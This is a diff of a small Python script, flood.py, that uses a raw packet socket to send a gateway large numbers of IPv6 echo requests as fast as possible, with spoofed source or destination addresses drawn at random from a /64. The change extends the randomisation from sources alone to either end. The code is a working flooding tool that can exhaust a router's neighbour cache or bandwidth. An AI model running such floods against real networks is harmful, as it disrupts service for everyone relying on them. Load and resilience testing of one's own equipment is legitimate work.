@@ -1,8 +1,9 @@
-"""Program: ask a gateway over IPv6 for echoes from very many sources, as if all lived behind one.
+"""Program: hand a gateway very many echo requests over IPv6, from or to invented addresses.
 
-    flood.py LINK MAC PREFIX GATEWAY GATEWAY-MAC COUNT
+    flood.py LINK MAC SOURCE DESTINATION GATEWAY-MAC COUNT
 
-Sources are chosen at random from a /64. Runs on any Python 3 without packages.
+Of a source or destination that is a /64 each request has another address, at random. Runs on any
+Python 3 without packages.
 """
 
 import os
@@ -22,15 +23,20 @@ def request(source: bytes, destination: bytes) -> bytes:
     return head + source + destination + echo[:2] + struct.pack("!H", total) + echo[4:]
 
 
-def main(link: str, mac: str, prefix: str, gateway: str, gateway_mac: str, count: str) -> None:
+def one_of(place: str) -> bytes:
+    """Return the address that is named, or any of the /64."""
+    address, _, prefix = place.partition("/")
+    known = socket.inet_pton(socket.AF_INET6, address)
+    return known[:8] + os.urandom(8) if prefix else known
+
+
+def main(link: str, mac: str, source: str, destination: str, gateway_mac: str, count: str) -> None:
     """Send them as fast as they go."""
     macs = bytes.fromhex(gateway_mac.replace(":", "")) + bytes.fromhex(mac.replace(":", ""))
-    network = socket.inet_pton(socket.AF_INET6, prefix)[:8]
-    destination = socket.inet_pton(socket.AF_INET6, gateway)
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
         wire.bind((link, 0))
         for _ in range(int(count)):
-            wire.send(macs + b"\x86\xdd" + request(network + os.urandom(8), destination))
+            wire.send(macs + b"\x86\xdd" + request(one_of(source), one_of(destination)))
 
 
 if __name__ == "__main__":
